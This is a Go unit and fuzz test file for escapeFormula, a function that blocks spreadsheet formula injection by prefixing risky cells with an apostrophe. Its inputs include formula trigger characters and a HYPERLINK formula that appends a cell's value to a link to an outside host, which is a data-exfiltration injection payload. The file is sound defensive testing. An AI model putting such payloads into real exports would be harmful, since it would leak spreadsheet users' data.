package httpapi

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscapeFormula(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Ada": "Ada", "17": "17", "a=1": "a=1", "Ada-Lovelace": "Ada-Lovelace", " Ada": " Ada", "'quoted": "'quoted", "🎈": "🎈", "~1": "~1",
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\tx": "'\tx", "\r=1": "'\r=1", "\rx": "'\rx", "\n=1": "'\n=1",
		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠SUM": "'＠SUM", " =1": "' =1", "\u00a0=1": "'\u00a0=1", "\ufeff=1": "'\ufeff=1", "\u200b@x": "'\u200b@x",
		`=HYPERLINK("http://example.org?"&A1)`: `'=HYPERLINK("http://example.org?"&A1)`, "-": "'-", "=": "'=",
	} {
		if got := escapeFormula(in); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}

// FuzzEscapeFormula looks for a text that still begins as a formula.
func FuzzEscapeFormula(f *testing.F) {
	for _, s := range []string{"", "=1", " =1", "\t", "＝", "\ufeff+", "a", "\xff=", "\x00=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := escapeFormula(s)
		if got != s && got != "'"+s {
			t.Fatalf("%q becomes %q", s, got)
		}
		first, _ := utf8.DecodeRuneInString(got)
		if got != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", first) && first != utf8.RuneError {
			t.Errorf("%q begins as a formula", got)
		}
	})
}
